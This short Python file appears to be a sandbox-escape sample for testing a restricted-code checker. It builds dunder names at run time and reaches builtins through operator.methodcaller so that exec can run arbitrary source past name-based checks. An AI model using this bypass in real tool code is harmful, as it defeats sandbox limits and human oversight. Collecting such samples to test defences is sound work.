# family: runner
# Escape: a `with ... as self` target holding an operator.methodcaller; self.__class__ is trusted by the name,
# giving the methodcaller class. methodcaller("__getattribute__", "__builtins__") (names built at run time)
# applied to the tool's own function returns the builtins dict, whose exec runs the given source.
import contextlib
import operator


def tool(source: str) -> dict:
    with contextlib.nullcontext(operator.methodcaller("strip")) as self:
        Call = self.__class__
    edge = "_" * 2
    builtins_ns = Call(edge + "getattribute" + edge, edge + "builtins" + edge)(tool)
    scope: dict = {}
    builtins_ns["exec"](source, scope)
    return scope
